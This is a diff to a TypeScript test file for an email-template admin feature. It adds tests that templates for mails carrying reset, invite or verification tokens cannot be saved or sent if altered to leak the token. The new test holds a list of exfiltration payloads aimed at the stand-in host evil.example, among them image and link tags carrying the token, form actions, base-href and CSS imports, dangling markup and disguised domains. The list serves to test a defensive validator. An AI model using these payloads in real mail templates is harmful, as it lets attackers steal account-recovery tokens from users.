@@ -7,6 +7,7 @@ import { inTx } from '#infra/db/client.ts'
 import type { Caller } from '#kernel/caller.ts'
 import type { Refusal } from '#kernel/errors.ts'
 import { fromWire, type UserId } from '#kernel/ids.ts'
+import { createWatch } from '#modules/admin/index.ts'
 import { startApp, type TestApp } from '#test/harness/app.ts'
 import {
   isTemplateName,
@@ -109,8 +110,8 @@ async function mailsTo(t: TestApp, address: string): Promise<string[]> {
 
 const words = {
   subject: 'New words for {{name}}',
-  text: 'Hi {{ name }}: {{token}} ({{hours}} h, {{url}})',
-  html: '<b>{{name}}</b> {{token}}',
+  text: 'Hi {{ name }}:\n\n{{token}}\n\n({{hours}} h, {{url}})',
+  html: '<b>{{name}}</b> <p>{{token}}</p>',
 }
 const admin = (uid: string): Caller => ({
   kind: 'user',
@@ -142,8 +143,8 @@ test('a saved template is sent from then on, and the built-in one after a reset;
   await t.settle()
   const [waited = ''] = await mailsTo(t, 'waiting@posts.test')
   assert.match(waited, /^Subject: New words for Ada & Co\r$/m)
-  assert.match(waited, /Hi Ada & Co: tok-1 \(48 h, https:\/\/posts\.test\)/)
-  assert.match(waited, /<b>Ada &amp; Co<\/b> tok-1/)
+  assert.match(waited, /Hi Ada & Co:\r\n\r\ntok-1\r\n\r\n\(48 h, https:\/\/posts\.test\)/)
+  assert.match(waited, /<b>Ada &amp; Co<\/b> <p>tok-1<\/p>/)
 
   await t.advance(1)
   assert.deepEqual(await resetTemplate(t.deps, caller, 'verify-email'), builtIn)
@@ -191,6 +192,84 @@ test('a stored template that no longer fits its variables gives way to the built
   await inTx(t.db, (tx) => queueMail(t.deps, tx, { to: 'ada@posts.test', template: 'goodbye', values }))
   await t.settle()
   assert.match((await mailsTo(t, 'ada@posts.test'))[0] ?? '', /^Subject: Your account was deleted\r$/m)
+})
+
+const evil = 'https://evil.example'
+
+test('no template of a mail that carries a token can send it to another place, nor lead its reader there', async () => {
+  await using t = await startApp()
+  const caller = admin((await t.as('root')).uid)
+  const carriers = (await readTemplates(t.db)).filter(({ variables }) => variables.some((one) => /token$/i.test(one)))
+  assert.deepEqual(
+    carriers.map(({ name }) => name),
+    ['change-email', 'profile-invite', 'reset-password', 'sign-up-invite', 'verify-email', 'welcome-verify'],
+  )
+  for (const { name, variables, subject, text, html } of carriers) {
+    const token = `{{${variables.find((one) => /token$/i.test(one))}}}`
+    const tries: Record<string, { subject?: string; text?: string; html?: string }> = {
+      'a picture with the token': { html: `${html}<img src="${evil}/${token}">` },
+      'a picture before the token that swallows it': { html: `<img src="${evil}/?${html}` },
+      'a form around the token': { html: `<form action="${evil}"><input value="${token}">${html}</form>` },
+      'a base for the links': { html: `<base href="${evil}">${html}` },
+      'a style that reads the page': { html: `<style>@import "${evil}";</style>${html}` },
+      'a link with the token': { html: `${html}<a href="${evil}/${token}">here</a>` },
+      'an attribute of a plain tag': { html: `<p style="background:url(//evil.example)">x</p>${html}` },
+      'a tag from two halves': {
+        html: html.replace(/<p>(?:<code>)?\{\{\w+\}\}(?:<\/code>)?<\/p>/, (one) => `<a hr${one}ef="${evil}">`),
+      },
+      'a comment': { html: `<!-- ${html} -->` },
+      'a written address': { html: `<p>Enter it at ${evil}</p>${html}` },
+      'an address in entities': { html: `<p>evil&#46;example</p>${html}` },
+      'an address that is broken by tags': { html: `<p>evil.<b>example</b></p>${html}` },
+      'a link with the token in the text': { text: `${text}\n\n${evil}/${token}` },
+      'an address in the paragraph of the token': { text: text.replace(token, `${evil}/${token}`) },
+      'a domain in the text': { text: `${text}\n\nEnter it at evil.example` },
+      'a disguised domain in the text': {
+        text: `${text}\n\nEnter it at evil[.]example or evil\uff0eexample or ev\u200bil.example`,
+      },
+      'a domain in the subject': { subject: 'Enter your code at evil.example' },
+    }
+    for (const [what, parts] of Object.entries(tries)) {
+      const wanted = { subject, text, html, ...parts }
+      const refused = (error: Refusal) => error.code === 'validation_failed'
+      await assert.rejects(async () => saveTemplate(t.deps, caller, name, wanted), refused, `${name}: ${what}`)
+      assert.throws(() => previewTemplate(t.config, name, wanted), refused, `${name}: ${what}`)
+    }
+    const friendly = {
+      subject: 'Ahoy',
+      text: `Ahoy {{url}}/help,\n\n${text}`,
+      html: `<h2>Ahoy</h2><p>See <a href="{{url}}">our page</a> &amp; <b>write</b>.</p>${html}`,
+    }
+    assert.equal((await saveTemplate(t.deps, caller, name, friendly)).text, friendly.text)
+  }
+})
+
+test('a stored template that would give a token away is set aside at an upgrade, and an alert says so until it is reset', async () => {
+  await using t = await startApp()
+  const root = await t.as('root')
+  const html = `<p>{{token}}</p><img src="${evil}/{{token}}">`
+  const old = { name: 'reset-password', subject: 'Old', text: '{{token}}', html, updatedAt: t.now() }
+  await t.db.insertInto('mailTemplate').values(old).execute()
+  await root.post('/v1/auth/request-password-reset', { email: root.email })
+  await t.settle()
+  const mail = (await mailsTo(t, root.email)).find((one) => /^Subject: (?:Reset|Old)/m.test(one)) ?? ''
+  assert.match(mail, /^Subject: Reset your password\r$/m)
+  assert.doesNotMatch(mail, /evil/)
+  assert.equal((await root.get('/v1/admin/email-templates/reset-password')).body.isChanged, false)
+  const listOpen = async () => {
+    await createWatch(t.deps).tick()
+    const { body } = await root.get('/v1/admin/alerts')
+    return body.alerts.filter(
+      (alert: { kind: string; closedAt: string | null }) =>
+        alert.kind === 'mail_template_set_aside' && alert.closedAt === null,
+    )
+  }
+  assert.deepEqual(
+    (await listOpen()).map(({ subject }: { subject: string }) => subject),
+    ['reset-password'],
+  )
+  await root.post('/v1/admin/email-templates/reset-password/reset')
+  assert.deepEqual(await listOpen(), [])
 })
 
 test('every built-in template can be previewed and saved unchanged', async () => {
